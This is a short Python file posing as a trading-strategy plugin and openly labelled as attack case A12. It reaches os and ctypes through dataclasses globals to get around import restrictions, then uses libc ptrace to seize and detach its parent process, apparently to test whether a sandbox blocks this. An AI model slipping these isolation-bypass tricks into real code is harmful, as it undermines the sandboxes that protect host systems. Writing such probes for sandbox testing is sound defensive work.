# ruff: noqa
"""A12: ptrace(PTRACE_SEIZE) the parent, then detach"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def _os():
    return dataclasses.fields.__globals__["sys"].modules["os"]


def _read(path):
    os = _os()
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 65536).decode("utf-8", "replace")
    finally:
        os.close(fd)


def _libc():
    ctypes = dataclasses.fields.__globals__["sys"].modules["ctypes"]
    return ctypes, ctypes.CDLL(None, use_errno=True)


def generate(bars, params):
    ctypes, libc = _libc()
    ppid = _os().getppid()
    rc = libc.ptrace(0x4206, ppid, 0, 0)
    if rc == 0:
        libc.ptrace(17, ppid, 0, 0)
        raise RuntimeError("PTRA" "CED " + str(ppid))
    raise RuntimeError("ptrace errno " + str(ctypes.get_errno()))
